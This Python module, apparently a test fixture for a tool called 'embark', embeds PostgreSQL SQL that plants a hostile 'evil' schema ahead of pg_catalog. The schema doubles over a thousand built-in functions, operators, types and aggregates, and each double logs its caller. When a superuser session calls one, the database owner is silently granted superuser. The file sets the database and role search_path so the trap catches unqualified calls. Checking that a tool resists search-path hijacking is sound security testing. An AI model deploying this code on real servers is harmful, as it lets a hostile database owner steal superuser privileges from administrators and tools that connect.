"""A database whose owner means harm: a schema in front of pg_catalog in which every function, operator and common type has a double.

What calls one of them is seen in the server's log, with whose session it was; a superuser's makes the owner a superuser.
"""

SPY = """
CREATE SCHEMA evil; GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE FUNCTION evil.spy(what pg_catalog.text) RETURNS pg_catalog.bool LANGUAGE plpgsql SET search_path = pg_catalog AS $spy$
BEGIN
    RAISE LOG 'EVIL % as %', what, current_user;
    IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
        BEGIN EXECUTE format('ALTER ROLE %I SUPERUSER', (SELECT nspowner::regrole FROM pg_namespace WHERE nspname = 'evil'));
        EXCEPTION WHEN OTHERS THEN NULL; END;
    END IF;
    RETURN true;
END $spy$;
"""

DOUBLES = """
SET search_path = pg_catalog;
DO $do$
DECLARE f record; n int := 0;
BEGIN
    FOR f IN SELECT proname, pg_get_function_identity_arguments(oid) AS args, proretset AS many, format_type(prorettype, NULL) AS type
        FROM pg_proc WHERE pronamespace = 'pg_catalog'::regnamespace AND prokind = 'f' AND proargmodes IS NULL AND proname !~ '^pg_stat_|_?(in|out|recv|send)$'
    LOOP
        BEGIN
            EXECUTE format('CREATE FUNCTION evil.%I(%s) RETURNS %s %s LANGUAGE plpgsql AS %L', f.proname, f.args, CASE WHEN f.many THEN 'SETOF' ELSE '' END, f.type,
                format('BEGIN PERFORM evil.spy(%L); RETURN%s; END', f.proname, CASE WHEN f.many OR f.type = 'void' THEN '' ELSE ' NULL' END));
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
    FOR f IN SELECT oprname, format_type(oprleft, NULL) AS l, format_type(oprright, NULL) AS r, format_type(oprresult, NULL) AS type FROM pg_operator
        WHERE oprnamespace = 'pg_catalog'::regnamespace AND oprleft <> 0 AND oprright <> 0
    LOOP
        BEGIN
            n := n + 1;
            EXECUTE format('CREATE FUNCTION evil.operator_%s(%s, %s) RETURNS %s LANGUAGE plpgsql AS %L', n, f.l, f.r, f.type,
                format('BEGIN PERFORM evil.spy(%L); RETURN NULL; END', f.oprname));
            EXECUTE format('CREATE OPERATOR evil.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = evil.operator_%s)', f.oprname, f.l, f.r, n);
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
    FOR f IN SELECT typname FROM pg_type WHERE typnamespace = 'pg_catalog'::regnamespace AND typtype = 'b' AND typcategory IN ('S', 'N', 'D', 'B') AND typname !~ '^pg_|^"'
    LOOP
        BEGIN
            EXECUTE format('CREATE DOMAIN evil.%I AS pg_catalog.%I CHECK (evil.spy(%L))', f.typname, f.typname, f.typname);
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
END $do$;
CREATE FUNCTION evil.count_one(pg_catalog.int8) RETURNS pg_catalog.int8 LANGUAGE plpgsql AS $$BEGIN PERFORM evil.spy('count'); RETURN $1; END$$;
CREATE AGGREGATE evil.count(*) (SFUNC = evil.count_one, STYPE = pg_catalog.int8, INITCOND = '0');
CREATE FUNCTION evil.current_database() RETURNS pg_catalog.name IMMUTABLE LANGUAGE plpgsql AS $$BEGIN PERFORM evil.spy('current_database'); RETURN 'x'; END$$;
"""


def plant(connection, database, role):
    """As the owner of the database, over its own connection."""
    with connection.cursor() as cursor:
        cursor.execute(SPY)
        cursor.execute(DOUBLES.replace("CREATE FUNCTION evil.current_database()", "CREATE OR REPLACE FUNCTION evil.current_database()"))
        cursor.execute("SELECT (SELECT count(*) FROM pg_catalog.pg_proc WHERE pronamespace = 'evil'::regnamespace),"
                       " (SELECT count(*) FROM pg_catalog.pg_operator WHERE oprnamespace = 'evil'::regnamespace)")
        functions, operators = cursor.fetchone()
        assert functions > 1000 and operators > 400, (functions, operators)
        for what in (f'DATABASE "{database}"', f'ROLE "{role}"'):
            cursor.execute(f"ALTER {what} SET search_path = evil, pg_catalog, public")


def seen(log):
    """Sessions of embark's that ran any of it."""
    return [line for line in log.splitlines() if "EVIL" in line and "/embark" in line]
